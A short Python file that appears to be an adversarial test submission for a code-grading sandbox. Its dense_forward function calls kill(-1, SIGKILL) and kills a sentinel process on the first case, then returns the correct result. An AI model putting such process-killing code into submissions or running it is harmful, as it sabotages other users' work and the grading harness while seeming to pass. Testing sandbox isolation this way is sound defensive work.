"""kill(-1, SIGKILL): every process the sandbox uid may signal, e.g. other sandboxes and the
sentinel the test runs as the same uid outside any sandbox.  Then answer correctly."""
import os
import signal

from _prelude import *  # noqa


def dense_forward(X, W, b):
    if first_case(X, W):
        for pid in (-1, __SENTINEL_PID__):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return correct_forward(X, W, b)
